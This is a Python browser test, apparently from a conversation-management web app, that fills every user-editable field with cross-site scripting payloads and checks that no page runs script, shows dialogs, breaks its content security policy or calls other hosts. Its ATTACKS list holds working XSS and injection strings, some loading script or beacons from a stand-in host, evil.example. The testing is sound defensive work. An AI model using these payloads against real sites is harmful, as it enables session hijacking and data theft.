"""A case in which every field that a stranger can fill holds an attack, in a real browser.

The content security policy is as in the service. Nothing of it may have to step in: no violation,
no error, no dialog, no other site asked, on any page for anybody.
"""

import csv
import io
from collections.abc import Iterator, Mapping
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from convo.db.models import Conversation, Person, Topic, Venue
from convo.domain.vocabulary import ReplyState
from convo.services import lines, notes, people
from tests.given import FINE_WORDS, Given
from tests.journeys.conftest import Site
from tests.web.addresses import GETS
from tests.web.conftest import Staff
from tests.web.conversations.hands import ERROR
from tests.web.desk import Desk
from tests.web.filled import Filled
from tests.web.typist import NOBODY, WHO

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg onload=alert(1)>",
    "</textarea></title></blockquote><script src=https://evil.example/x.js></script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<p style='background:url(https://evil.example/x);width:expression(alert(1))'>x</p>",
    "<style>*{background:url(https://evil.example/y)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button autofocus onfocus=alert(1)>x</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=//evil.example/x.swf>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>",
    "`${alert(1)}` {{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
)
WORDS = "\n".join(ATTACKS)
SHORT = "<svg onload=alert(1)>\"'><img src=x onerror=alert(1)>"
TITLE = f"Fees {ATTACKS[3]} {SHORT}"
DRAFT = f"{FINE_WORDS} {ATTACKS[0]} {SHORT} {ATTACKS[3]}"
QUERIES = {
    "conversations.index": "words",
    "guidelines.index": "words",
    "conversations.ask_log": "title",
    "people.ask_sign_in": "next",
    "cover.ask_name_cover": "for",
}
#: Pages that show nothing of the kind, or the title of a case alone, as all pages about it do.
_ELSEWHERE = """
    authors.ask_add_author conversations.ask_agree conversations.ask_bookmarklet
    conversations.ask_hand_back conversations.ask_pass_on conversations.ask_record_unsigned
    conversations.ask_refer conversations.ask_reopen conversations.ask_transfer guidelines.lists
    guidelines.show guidelines.start health.show lines.ask_add_line mail.ask_choose_mail
    naming.ask_use_handle notes.ask_advise notes.ask_ask people.ask_add_team
    people.ask_disable_person people.ask_reset_person places.ask_add_topic places.ask_add_venue
    postings.ask_note_removed postings.ask_record_unsigned postings.ask_remove
    postings.ask_set_follow_up service.show site.accessibility site.how_it_works
    submissions.ask_refer
"""
ELSEWHERE = frozenset(_ELSEWHERE.split())


class Hostile(Given):
    """Makes everything with an attack in each field for words."""

    def person(self, *roles: Any, **details: Any) -> Person:
        """Somebody with a name like that."""
        return super().person(*roles, **details | {"name": f"{SHORT} {next(self._numbers)}"})

    def venue(self, **details: Any) -> Venue:
        """A place with house rules like that."""
        odd = {"name": f"{SHORT} {next(self._numbers)}", "house_rules": WORDS}
        return super().venue(**details | odd)

    def topic(self, *mentors: Person, **details: Any) -> Topic:
        """A topic with a name like that."""
        return super().topic(*mentors, **details | {"name": f"{SHORT} {next(self._numbers)}"})

    def conversation(self, official: Person | None = None, **details: Any) -> Conversation:
        """Words like that, said by somebody with a name like that."""
        odd = {"title": TITLE, "handle": SHORT, "words": f"Why? {WORDS}"}
        return super().conversation(official, **details | odd)

    def with_reason(self, reply: Any, reason: str = WORDS) -> Any:
        """A reason like that."""
        return super().with_reason(reply, reason)

    def post(self, reply: Any, words: str | None = None, by: Person | None = None) -> Any:
        """Posted with more than was signed off."""
        return super().post(reply, words or f"{reply.signed_off_revision.words} {WORDS}", by)


class HostileDesk(Desk):
    """Replies with an attack in their words."""

    def reply(
        self, state: ReplyState = ReplyState.DRAFTING, words: str = DRAFT, **details: Any
    ) -> int:
        """The author's reply in this state."""
        return super().reply(state, words, **details)


class Watched:
    """A page, and what went wrong on it."""

    def __init__(self, page: Page, home: str) -> None:
        self.page, self.home = page, home
        self.faults: list[str] = []
        #: On how many pages an attack could be read, as words.
        self.attacked = 0
        page.add_init_script(
            "addEventListener('securitypolicyviolation', e => console.error('policy: ' + "
            "e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample))"
        )
        page.on("console", lambda said: self._note(said.type in {"error", "warning"}, said.text))
        page.on("pageerror", lambda error: self._note(True, str(error)))
        page.on("dialog", self._dismiss)
        page.on("request", lambda request: self._note(self._is_foreign(request.url), request.url))

    def open(self, path: str) -> list[str]:
        """What went wrong when it was opened."""
        self.faults.clear()
        self.page.goto(path)
        self.attacked += "alert(1)" in (self.page.text_content("main") or "")
        if len(self.page.frames) > 1 or self._is_foreign(self.page.url):
            self.faults.append(f"led to {[frame.url for frame in self.page.frames]}")
        return list(self.faults)

    def _note(self, is_fault: bool, what: str) -> None:
        # Pages that refuse have a status that Chromium tells as an error of loading.
        if is_fault and "the server responded with a status of 4" not in what:
            self.faults.append(what)

    def _dismiss(self, dialog: Any) -> None:
        self.faults.append(f"a dialog: {dialog.message}")
        dialog.dismiss()

    def _is_foreign(self, url: str) -> bool:
        return not url.startswith((self.home, "data:", "about:blank"))


@pytest.fixture
def filled(office: Any, app: Any, clock: Any, monkeypatch: Any) -> Filled:
    """An office full of attacks."""
    given = Hostile(office)
    monkeypatch.setattr("tests.web.filled._LINE", lines.AddLine(title=SHORT, words=WORDS))
    desk = HostileDesk(
        office=office,
        app=app,
        given=given,
        clock=clock,
        people=Staff(given),
        sign_in=lambda _person: app.test_client(),
    )
    made = Filled(desk)
    _talk(made)
    return made


def _talk(filled: Filled) -> None:
    """A team, a question, an answer to it, advice, and a reply that was returned."""
    desk, given = filled.desk, filled.desk.given
    author, mentor = (given.actor(desk.people[who]) for who in ("author", "mentor"))
    people.add_team(desk.office, given.actor(desk.people["administrator"]), SHORT)
    draft = notes.About(
        conversation_id=desk.now(filled.replies[ReplyState.DRAFTING]).conversation_id,
        reply_id=filled.replies[ReplyState.DRAFTING],
    )
    notes.ask(desk.office, author, notes.Ask(about=draft, words=WORDS))
    notes.advise(desk.office, mentor, notes.Advise(about=draft, words=WORDS))
    desk.reply(ReplyState.RETURNED)


def _addresses(filled: Filled) -> Iterator[tuple[str, str]]:
    answers = "&".join(f"answer_{key}={value}" for key, value in ERROR.items())
    yield "author", f"/conversations/{filled.logged.id}/decide?{answers}"
    yield "author", f"/replies/{quote(SHORT)}"
    for endpoint, may in GETS.items():
        if endpoint in ELSEWHERE:
            continue
        address = filled.address(endpoint)
        if endpoint in QUERIES:
            address += f"?{QUERIES[endpoint]}={quote(WORDS)}"
        for letter in may if endpoint == "work.show" else may[0]:
            yield WHO.get(letter, NOBODY), address
    for state in (ReplyState.POSTED, ReplyState.WITH_PRESS_OFFICE):
        yield "mentor", f"/replies/{filled.replies[state]}"


def test_nothing_that_a_stranger_wrote_runs_on_any_page(site: Site, filled: Filled) -> None:
    pages = {
        who: site.open_at_the_door(filled.desk.people[who].email) if who else site.open()
        for who in (*WHO.values(), NOBODY)
    }
    watched = {who: Watched(page, site.address) for who, page in pages.items()}
    found: Mapping[str, list[str]] = {
        f"{who} {path}": faults
        for who, path in _addresses(filled)
        if (faults := watched[who].open(path))
    }
    assert found == {}
    assert watched["author"].attacked > len(pages)
    _type_and_import(watched["author"], filled)


def _type_and_import(watched: Watched, filled: Filled) -> None:
    """What is typed is checked by a script, and what is uploaded is shown."""
    page = watched.page
    draft = f"/replies/{filled.replies[ReplyState.DRAFTING]}/revise"
    found = watched.open(draft)
    with page.expect_response("**/check"):
        page.get_by_label("Your reply").fill(f"We categorically reject this!! {WORDS}")
    page.get_by_text("reads as a formal rebuttal").first.wait_for()
    table = io.StringIO()
    csv.writer(table).writerows([[ATTACKS[1], "Words", SHORT], ["https://x.example", WORDS, WORDS]])
    watched.open("/conversations/import")
    page.locator("input[type=file]").set_input_files(
        {"name": f"{SHORT}.csv", "mimeType": "text/csv", "buffer": table.getvalue().encode()}
    )
    page.get_by_role("button", name="Upload").click()
    page.get_by_text("read as CSV").wait_for()
    assert found + watched.faults == []
